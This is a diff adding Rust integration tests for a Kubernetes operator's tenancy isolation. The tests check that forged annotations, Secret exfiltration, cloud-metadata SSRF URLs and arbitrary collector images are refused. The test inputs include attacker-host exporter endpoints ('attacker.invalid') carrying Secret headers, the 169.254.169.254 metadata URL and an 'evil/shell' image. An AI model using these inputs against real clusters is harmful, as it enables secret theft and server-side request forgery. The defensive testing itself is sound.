@@ -1,0 +1,484 @@
+//! Tenancy (issue 15) on the real control plane: what a namespace user writes into their own
+//! objects cannot reach past their own RBAC through the operator.
+
+use std::time::Duration;
+
+use k8s_openapi::api::apps::v1::DaemonSet;
+use k8s_openapi::api::core::v1::{ConfigMap, Secret};
+use k8s_openapi::api::rbac::v1::{Role, RoleBinding};
+use kube::api::{Api, DeleteParams, Patch, PatchParams, PostParams};
+use phoenix::crd::experiment::{Experiment, ExperimentPhase};
+use phoenix::crd::pipeline::PipelinePhase;
+use phoenix::crd::{Pipeline, conditions};
+use phoenix::desired::collector_config::CollectorConfig;
+
+use crate::harness::{Operator, TestNamespace, cluster, eventually};
+
+/// The Pipeline `name` once Ready, with its rendered collector config.
+async fn ready_config(ns: &TestNamespace, name: &str) -> (Pipeline, CollectorConfig) {
+    let pipelines = ns.api::<Pipeline>();
+    let p = eventually(
+        &format!("Pipeline {name} Ready"),
+        Duration::from_secs(60),
+        || async {
+            let p = pipelines.get(name).await.ok()?;
+            (p.status.as_ref()?.phase == Some(PipelinePhase::Ready)).then_some(p)
+        },
+    )
+    .await;
+    let cm_name = p
+        .status
+        .as_ref()
+        .and_then(|s| s.config_map.clone())
+        .expect("status names the ConfigMap");
+    let cm = ns
+        .api::<ConfigMap>()
+        .get(&cm_name)
+        .await
+        .expect("the ConfigMap exists");
+    let yaml = cm
+        .data
+        .as_ref()
+        .and_then(|d| d.values().next().cloned())
+        .expect("the ConfigMap holds the config");
+    (p, CollectorConfig::from_yaml(&yaml).expect("config parses"))
+}
+
+/// Path 4: the annotations and labels the Experiment controller puts on its children
+/// (`phoenix.io/remote-write-url`, `phoenix.io/allow-extra-exporters`, `phoenix.io/experiment`,
+/// `phoenix.io/variant`) are ignored on a Pipeline that no Experiment controls: a user cannot
+/// point collectors elsewhere through them, nor forge another Experiment's series labels.
+#[tokio::test]
+async fn experiment_annotations_on_a_users_own_pipeline_are_ignored() {
+    let ns = TestNamespace::new("forged").await;
+    let _operator = Operator::start(&ns.name, &[]);
+    let forged: Pipeline = serde_yaml::from_str(
+        "apiVersion: phoenix.io/v1alpha1\nkind: Pipeline\nmetadata:\n  name: forged\n  labels: {phoenix.io/experiment: victim, phoenix.io/variant: candidate}\n  annotations: {phoenix.io/remote-write-url: 'http://attacker.invalid/api/v1/write', phoenix.io/allow-extra-exporters: 'true'}\nspec: {template: baseline}",
+    )
+    .expect("test Pipeline parses");
+    ns.api::<Pipeline>()
+        .create(&PostParams::default(), &forged)
+        .await
+        .expect("Pipeline created");
+
+    let (_, config) = ready_config(&ns, "forged").await;
+    let rw = &config.exporters["prometheusremotewrite"].0;
+    assert_eq!(
+        rw["endpoint"].as_str(),
+        Some(cluster().var("PROMETHEUS_REMOTE_WRITE_URL")),
+        "the operator's remote-write URL, not the annotation's"
+    );
+    let labels = &config.processors["resource/phoenix"].0["attributes"];
+    let label = |key: &str| {
+        labels
+            .as_array()
+            .and_then(|a| a.iter().find(|l| l["key"] == key))
+            .and_then(|l| l["value"].as_str())
+            .map(str::to_string)
+    };
+    assert_eq!(label("phoenix_experiment").as_deref(), Some("none"));
+    assert_eq!(label("phoenix_variant").as_deref(), Some("none"));
+    let ds: DaemonSet = ns
+        .api::<DaemonSet>()
+        .get("forged-collector")
+        .await
+        .expect("DaemonSet");
+    let ds_labels = ds.metadata.labels.unwrap_or_default();
+    assert_eq!(
+        ds_labels.get("phoenix.io/experiment").map(String::as_str),
+        Some("")
+    );
+    ns.cleanup().await;
+}
+
+/// A Role in `ns` letting `user` manage Pipelines (and read their status), nothing else: no
+/// Secrets.
+async fn pipeline_author(ns: &TestNamespace, user: &str) {
+    let role: Role = serde_yaml::from_str(
+        "metadata: {name: pipeline-author}\nrules: [{apiGroups: [phoenix.io], resources: [pipelines, experiments], verbs: [get, list, watch, create, patch, delete]}]",
+    )
+    .expect("Role parses");
+    ns.api::<Role>()
+        .create(&PostParams::default(), &role)
+        .await
+        .expect("Role created");
+    let binding: RoleBinding = serde_yaml::from_str(&format!(
+        "metadata: {{name: pipeline-author}}\nroleRef: {{apiGroup: rbac.authorization.k8s.io, kind: Role, name: pipeline-author}}\nsubjects: [{{apiGroup: rbac.authorization.k8s.io, kind: User, name: {user}}}]"
+    ))
+    .expect("RoleBinding parses");
+    ns.api::<RoleBinding>()
+        .create(&PostParams::default(), &binding)
+        .await
+        .expect("RoleBinding created");
+}
+
+/// A Secret in `ns` with one key, labelled or not for exporter use.
+async fn secret(ns: &TestNamespace, name: &str, opted_in: bool) {
+    let labels = if opted_in {
+        "{phoenix.io/exporter-credentials: 'true'}"
+    } else {
+        "{}"
+    };
+    let s: Secret = serde_yaml::from_str(&format!(
+        "metadata: {{name: {name}, labels: {labels}}}\nstringData: {{password: hunter2}}"
+    ))
+    .expect("Secret parses");
+    ns.api::<Secret>()
+        .create(&PostParams::default(), &s)
+        .await
+        .expect("Secret created");
+}
+
+fn exporting_pipeline(name: &str, secret: &str) -> Pipeline {
+    serde_yaml::from_str(&format!(
+        "apiVersion: phoenix.io/v1alpha1\nkind: Pipeline\nmetadata: {{name: {name}}}\nspec:\n  template: baseline\n  exporters: [{{name: out, endpoint: 'http://attacker.invalid', headersSecretRef: {{name: {secret}}}}}]"
+    ))
+    .expect("test Pipeline parses")
+}
+
+/// The env var names of the collector container that come from `secret`.
+fn env_from_secret(ds: &DaemonSet, secret: &str) -> Vec<String> {
+    ds.spec
+        .template
+        .spec
+        .as_ref()
+        .map(|p| {
+            p.containers
+                .iter()
+                .flat_map(|c| c.env.iter().flatten())
+                .collect::<Vec<_>>()
+        })
+        .unwrap_or_default()
+        .into_iter()
+        .filter(|e| {
+            e.value_from
+                .as_ref()
+                .and_then(|v| v.secret_key_ref.as_ref())
+                .is_some_and(|r| r.name == secret)
+        })
+        .map(|e| e.name.clone())
+        .collect()
+}
+
+/// Path 2: a user who may write Pipelines but not read Secrets cannot have a Secret's values sent
+/// as HTTP headers to an endpoint of their choosing: only Secrets labelled
+/// `phoenix.io/exporter-credentials: "true"` are used, and the refusal says so.
+#[tokio::test]
+async fn only_secrets_opted_in_for_exporters_reach_a_collector() {
+    let ns = TestNamespace::new("secrets").await;
+    let _operator = Operator::start(&ns.name, &[]);
+    pipeline_author(&ns, "mallory").await;
+    secret(&ns, "db-password", false).await;
+    secret(&ns, "vendor-key", true).await;
+    let as_mallory = cluster().client_as("mallory").await;
+    let secrets: Api<Secret> = Api::namespaced(as_mallory.clone(), &ns.name);
+    assert!(
+        secrets.get("db-password").await.is_err(),
+        "mallory cannot read Secrets herself"
+    );
+    let pipelines: Api<Pipeline> = Api::namespaced(as_mallory, &ns.name);
+    for (name, secret) in [("steal", "db-password"), ("vendor", "vendor-key")] {
+        pipelines
+            .create(&PostParams::default(), &exporting_pipeline(name, secret))
+            .await
+            .expect("mallory may create Pipelines");
+    }
+
+    let refused = eventually(
+        "Pipeline steal refused",
+        Duration::from_secs(60),
+        || async {
+            let p = pipelines.get("steal").await.ok()?;
+            let s = p.status?;
+            (s.phase == Some(PipelinePhase::Invalid)).then_some(s)
+        },
+    )
+    .await;
+    let valid = conditions::find(&refused.conditions, "ConfigValid").expect("ConfigValid");
+    assert_eq!(valid.reason, "SecretNotOptedIn");
+    assert!(
+        valid.message.contains("phoenix.io/exporter-credentials"),
+        "the refusal names the label: {}",
+        valid.message
+    );
+    assert!(
+        ns.api::<DaemonSet>()
+            .get_opt("steal-collector")
+            .await
+            .expect("get DaemonSet")
+            .is_none(),
+        "no collector with the Secret was deployed"
+    );
+
+    // A Secret its owner opted in is used.
+    ready_config(&ns, "vendor").await;
+    let ds = ns
+        .api::<DaemonSet>()
+        .get("vendor-collector")
+        .await
+        .expect("DaemonSet");
+    assert_eq!(env_from_secret(&ds, "vendor-key").len(), 1);
+    ns.cleanup().await;
+}
+
+/// Path 6: a spec the schema admits but the apiserver refuses in the generated workload (here a
+/// CPU request above its limit: 422 on the DaemonSet) ends as `Invalid` with the apiserver's
+/// message, and is not retried (no reconcile error, so no 5 s retry loop) until the spec changes.
+#[tokio::test]
+async fn a_workload_the_apiserver_refuses_is_a_condition_not_a_retry_loop() {
+    let ns = TestNamespace::new("refused").await;
+    let operator = Operator::start(&ns.name, &[]);
+    let p: Pipeline = serde_yaml::from_str(
+        "apiVersion: phoenix.io/v1alpha1\nkind: Pipeline\nmetadata: {name: greedy}\nspec:\n  template: baseline\n  deployment: {resources: {requests: {cpu: '2'}, limits: {cpu: '1'}}}",
+    )
+    .expect("test Pipeline parses");
+    let pipelines = ns.api::<Pipeline>();
+    pipelines
+        .create(&PostParams::default(), &p)
+        .await
+        .expect("the schema admits it");
+    let status = eventually(
+        "Pipeline greedy Invalid",
+        Duration::from_secs(60),
+        || async {
+            let s = pipelines.get("greedy").await.ok()?.status?;
+            (s.phase == Some(PipelinePhase::Invalid)).then_some(s)
+        },
+    )
+    .await;
+    let valid = conditions::find(&status.conditions, "ConfigValid").expect("ConfigValid");
+    assert_eq!(valid.reason, "Invalid");
+    assert!(
+        valid
+            .message
+            .contains("must be less than or equal to cpu limit"),
+        "the apiserver's own message: {}",
+        valid.message
+    );
+    let errors: Vec<String> = operator
+        .metrics()
+        .lines()
+        .filter(|l| l.starts_with("phoenix_reconcile_errors_total{controller=\"pipeline\""))
+        .map(str::to_string)
+        .collect();
+    assert!(
+        errors.is_empty(),
+        "a permanent refusal is not a reconcile error to retry: {errors:?}"
+    );
+    ns.cleanup().await;
+}
+
+/// Path 8: per-object state is bounded. A deleted Experiment's series leave the operator's
+/// /metrics, and `spec.ttlSecondsAfterFinished` deletes a finished Experiment.
+#[tokio::test]
+async fn deleted_experiments_leave_metrics_and_finished_ones_expire() {
+    let ns = TestNamespace::new("bounded").await;
+    let operator = Operator::start(&ns.name, &[]);
+    let experiments = ns.api::<Experiment>();
+    let make = |name: &str, extra: &str| -> Experiment {
+        serde_yaml::from_str(&format!(
+            "apiVersion: phoenix.io/v1alpha1\nkind: Experiment\nmetadata: {{name: {name}}}\nspec: {{baseline: {{pipeline: {{template: baseline}}}}, candidate: {{pipeline: {{template: baseline}}}}{extra}}}"
+        ))
+        .expect("test Experiment parses")
+    };
+    let series = |name: &str| {
+        let needle = format!("experiment=\"{name}\"");
+        operator
+            .metrics()
+            .lines()
+            .filter(|l| l.starts_with("phoenix_experiment_phase{") && l.contains(&needle))
+            .count()
+    };
+
+    experiments
+        .create(&PostParams::default(), &make("gone", ""))
+        .await
+        .expect("Experiment created");
+    eventually(
+        "series of Experiment gone",
+        Duration::from_secs(60),
+        || async { (series("gone") > 0).then_some(()) },
+    )
+    .await;
+    experiments
+        .delete("gone", &DeleteParams::default())
+        .await
+        .expect("Experiment deleted");
+    eventually(
+        "the deleted Experiment's series removed",
+        Duration::from_secs(60),
+        || async { (series("gone") == 0).then_some(()) },
+    )
+    .await;
+
+    // Aborted at once, so finished; expires one second later.
+    experiments
+        .create(
+            &PostParams::default(),
+            &make("short", ", abort: true, ttlSecondsAfterFinished: 1"),
+        )
+        .await
+        .expect("Experiment created");
+    eventually(
+        "the finished Experiment deleted",
+        Duration::from_secs(60),
+        || async {
+            experiments
+                .get_opt("short")
+                .await
+                .ok()
+                .and_then(|e| e.is_none().then_some(()))
+        },
+    )
+    .await;
+    // Without a TTL a finished Experiment stays.
+    experiments
+        .create(&PostParams::default(), &make("kept", ", abort: true"))
+        .await
+        .expect("Experiment created");
+    let kept = eventually(
+        "Experiment kept Aborted",
+        Duration::from_secs(60),
+        || async {
+            let s = experiments.get("kept").await.ok()?.status?;
+            (s.phase == Some(ExperimentPhase::Aborted)).then_some(())
+        },
+    );
+    kept.await;
+    ns.cleanup().await;
+}
+
+/// Path 5: an Experiment's own Prometheus URL is a request the operator sends on the user's
+/// behalf: refused (`Failed`, `PrometheusNotAllowed`) unless the operator's settings allow it,
+/// and `spec.prometheus` cannot be switched once the Experiment exists.
+#[tokio::test]
+async fn experiment_prometheus_urls_are_limited_by_the_operator_and_immutable() {
+    let ns = TestNamespace::new("promurl").await;
+    let _operator = Operator::start(&ns.name, &[]);
+    let experiments = ns.api::<Experiment>();
+    let make = |name: &str, url: &str| -> Experiment {
+        serde_yaml::from_str(&format!(
+            "apiVersion: phoenix.io/v1alpha1\nkind: Experiment\nmetadata: {{name: {name}}}\nspec: {{baseline: {{pipeline: {{template: baseline}}}}, candidate: {{pipeline: {{template: baseline}}}}, prometheus: {{url: '{url}'}}}}"
+        ))
+        .expect("test Experiment parses")
+    };
+    experiments
+        .create(
+            &PostParams::default(),
+            &make("metadata", "http://169.254.169.254/latest"),
+        )
+        .await
+        .expect("the schema admits any http URL");
+    let status = eventually(
+        "Experiment metadata Failed",
+        Duration::from_secs(60),
+        || async {
+            let s = experiments.get("metadata").await.ok()?.status?;
+            (s.phase == Some(ExperimentPhase::Failed)).then_some(s)
+        },
+    )
+    .await;
+    let ready = conditions::find(&status.conditions, "Ready").expect("Ready condition");
+    assert_eq!(ready.reason, "PrometheusNotAllowed");
+    assert!(
+        ns.api::<Pipeline>()
+            .get_opt("metadata-baseline")
+            .await
+            .expect("get Pipeline")
+            .is_none(),
+        "nothing was deployed"
+    );
+
+    // The operator's own Prometheus is allowed; switching it afterwards is refused at admission.
+    experiments
+        .create(
+            &PostParams::default(),
+            &make("own", cluster().var("PROMETHEUS_URL")),
+        )
+        .await
+        .expect("Experiment created");
+    let switched = experiments
+        .patch(
+            "own",
+            &PatchParams::default(),
+            &Patch::Merge(
+                serde_json::json!({"spec": {"prometheus": {"url": "http://fake-prom:9090"}}}),
+            ),
+        )
+        .await;
+    match switched {
+        Err(kube::Error::Api(e)) => {
+            assert_eq!(e.code, 422);
+            assert!(
+                e.message.contains("spec.prometheus is immutable"),
+                "{}",
+                e.message
+            );
+        }
+        other => panic!("switching spec.prometheus must be refused: {other:?}"),
+    }
+    ns.cleanup().await;
+}
+
+/// Path 1: collectors mount the host's /proc, so a Pipeline may not pick an arbitrary image:
+/// only the operator's collector image or one its settings allow.
+#[tokio::test]
+async fn collector_images_come_from_the_operators_settings() {
+    let ns = TestNamespace::new("images").await;
+    let _operator = Operator::start(
+        &ns.name,
+        &["--allowed-collector-images", "otelcol-phoenix:allowed"],
+    );
+    let pipelines = ns.api::<Pipeline>();
+    for (name, image) in [
+        ("shell", "evil/shell:latest"),
+        ("allowed", "otelcol-phoenix:allowed"),
+    ] {
+        let p: Pipeline = serde_yaml::from_str(&format!(
+            "apiVersion: phoenix.io/v1alpha1\nkind: Pipeline\nmetadata: {{name: {name}}}\nspec: {{template: baseline, deployment: {{image: '{image}'}}}}"
+        ))
+        .expect("test Pipeline parses");
+        pipelines
+            .create(&PostParams::default(), &p)
+            .await
+            .expect("Pipeline created");
+    }
+    let refused = eventually(
+        "Pipeline shell refused",
+        Duration::from_secs(60),
+        || async {
+            let s = pipelines.get("shell").await.ok()?.status?;
+            (s.phase == Some(PipelinePhase::Invalid)).then_some(s)
+        },
+    )
+    .await;
+    let valid = conditions::find(&refused.conditions, "ConfigValid").expect("ConfigValid");
+    assert_eq!(valid.reason, "ImageNotAllowed");
+    assert!(
+        ns.api::<DaemonSet>()
+            .get_opt("shell-collector")
+            .await
+            .expect("get DaemonSet")
+            .is_none(),
+        "no collector runs the refused image"
+    );
+    let ds = eventually(
+        "DaemonSet allowed-collector",
+        Duration::from_secs(60),
+        || async {
+            ns.api::<DaemonSet>()
+                .get_opt("allowed-collector")
+                .await
+                .ok()?
+        },
+    )
+    .await;
+    let image = ds
+        .spec
+        .template
+        .spec
+        .as_ref()
+        .and_then(|p| p.containers[0].image.clone());
+    assert_eq!(image.as_deref(), Some("otelcol-phoenix:allowed"));
+    ns.cleanup().await;
+}
